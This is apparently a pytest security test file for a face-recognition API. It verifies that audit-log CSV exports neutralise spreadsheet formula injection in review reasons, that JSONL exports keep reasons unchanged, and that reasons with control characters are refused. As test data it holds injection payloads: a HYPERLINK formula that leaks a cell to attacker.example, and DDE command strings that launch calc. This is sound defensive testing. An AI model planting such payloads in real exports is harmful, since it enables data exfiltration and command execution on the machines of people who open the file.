"""Finding 9: CSV formula injection. A review reason such as `=HYPERLINK(...)` must
reach an auditor's spreadsheet as text, never as a live formula; JSONL keeps it as
recorded (it is what verification hashes)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from flask import Flask

from faceapi.domain.audit_export import FORMULA_STARTS, csv_cell
from tests.conftest import KeyFactory
from tests.fakes import FakeEngine
from tests.security.conftest import Http
from tests.security.test_read_scopes import MINE, pending_verify

ALICE_COLLECTION = MINE
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


@pytest.fixture
def reviewed(app: Flask, http: Http, make_key: KeyFactory,
             fake_engine: FakeEngine) -> dict[str, str]:
    """Four identity_check reviews, each decided with a reason that starts a formula."""
    from tests.fakes import unit_vector
    from tests.integration.verify_support import enroll
    from tests.security.test_read_scopes import make_collection

    make_collection(http, make_key("operator"), ALICE_COLLECTION)
    enroll(app, ALICE_COLLECTION, "alice", unit_vector(1))
    app_key, reviewer = make_key("app"), make_key("reviewer")
    reasons = {}
    for reason in (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"):
        pending_verify(http, fake_engine, app_key, ALICE_COLLECTION)
        (item,) = http.get("/v1/reviews", key=reviewer).json()["reviews"]
        reply = http.post(f"/v1/reviews/{item['review_id']}/decision", key=reviewer,
                          json_body={"decision": "reject", "reason": reason})
        assert reply.status == 200, reply.body[:300]
        reasons[item["review_id"]] = reason
    return reasons


def test_a_reason_that_starts_a_formula_is_text_in_the_csv_export(
        reviewed: dict[str, str], http: Http, make_key: KeyFactory) -> None:
    auditor = make_key("auditor")
    reply = http.get("/v1/audit/export?format=csv&action=review.decision", key=auditor)
    assert reply.status == 200
    rows = list(csv.DictReader(io.StringIO(reply.body.decode())))
    votes = [r for r in rows if r["type"] == "event"
             and json.loads(r["details"]).get("review_id") in reviewed
             and r["reason"] != "review_closed"]
    assert len(votes) == len(reviewed)
    for row in votes:
        recorded = reviewed[json.loads(row["details"])["review_id"]]
        assert row["reason"] == "'" + recorded
    # No cell of the whole file starts a formula, whichever column it is in.
    everything = list(csv.reader(io.StringIO(
        http.get("/v1/audit/export?format=csv", key=auditor).body.decode())))
    assert all(not cell.startswith(FORMULA_STARTS) for row in everything for cell in row)


def test_the_jsonl_export_keeps_the_reason_exactly_as_recorded(
        reviewed: dict[str, str], http: Http, make_key: KeyFactory) -> None:
    reply = http.get("/v1/audit/export?format=jsonl&action=review.decision",
                     key=make_key("auditor"))
    lines = [json.loads(line) for line in reply.body.splitlines()]
    reasons = {line["details"]["review_id"]: line["reason"] for line in lines
               if line["type"] == "event" and line["reason"] != "review_closed"}
    assert reasons == reviewed


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_with_a_single_quote(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["collections/c1", "1+1", "a=b", "", "'=x", 42])
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("reason", ["\r=HYPERLINK(1)", "\t=1+1", "ok\nthen"])
def test_a_reason_with_control_characters_is_refused_before_it_reaches_the_trail(
        reviewed: dict[str, str], http: Http, make_key: KeyFactory,
        fake_engine: FakeEngine, reason: str) -> None:
    pending_verify(http, fake_engine, make_key("app"), ALICE_COLLECTION)
    reviewer = make_key("reviewer")
    (item,) = http.get("/v1/reviews", key=reviewer).json()["reviews"]
    reply = http.post(f"/v1/reviews/{item['review_id']}/decision", key=reviewer,
                      json_body={"decision": "reject", "reason": reason})
    assert reply.status == 422, reply.body[:300]
    assert reply.json()["error"]["code"] == "validation_error"
